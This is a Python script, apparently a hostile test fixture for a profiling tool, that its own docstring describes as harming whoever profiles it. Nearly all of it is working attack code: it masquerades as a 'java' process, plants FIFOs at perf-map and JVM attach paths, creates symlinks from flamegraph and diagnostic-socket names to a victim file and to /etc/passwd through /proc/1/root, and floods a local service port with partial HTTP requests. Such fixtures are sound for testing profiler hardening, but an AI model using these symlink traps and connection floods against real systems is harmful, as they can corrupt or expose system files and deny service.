"""An application that would harm whoever profiles it.

It calls itself java, plants links and pipes where a profiler reads and writes,
and opens as many connections as it may to the port that it finds in /tmp/port.
"""

import ctypes
import os
import socket
import sys
import threading
import time


def hot_leaf(rounds):
    total = 0
    for index in range(rounds):
        total += index * index
    return total


def plant():
    with open('/tmp/victim', 'w') as victim:
        victim.write('untouched')
    me = os.getpid()
    for name in (f'perf-{me}.map', 'perf-1.map', f'.java_pid{me}', f'.attach_pid{me}'):
        os.mkfifo(f'/tmp/{name}')
    for name in ('sp-flamegraph', f'sp-flamegraph-{me}', 'flamegraphs', 'graphs', f'hsperfdata_{me}'):
        os.symlink('/tmp/victim', f'/tmp/{name}')
    os.symlink('/proc/1/root/etc/passwd', '/tmp/dotnet-diagnostic-1-1-socket')
    open('/tmp/planted', 'w').close()


def flood():
    while not os.path.exists('/tmp/port') or not (port := open('/tmp/port').read().strip()):
        time.sleep(0.1)
    held = []
    while True:
        try:
            each = socket.create_connection(('127.0.0.1', int(port)), timeout=1)
            each.send(b'GET /v1/captures HTTP/1.1\r\n')
            held.append(each)
        except OSError:
            time.sleep(0.05)
        if len(held) > 500:
            held.pop(0).close()


ctypes.CDLL(None).prctl(15, b'java', 0, 0, 0)
plant()
threading.Thread(target=flood, daemon=True).start()
end = time.monotonic() + float(sys.argv[1])
while time.monotonic() < end:
    hot_leaf(20000)
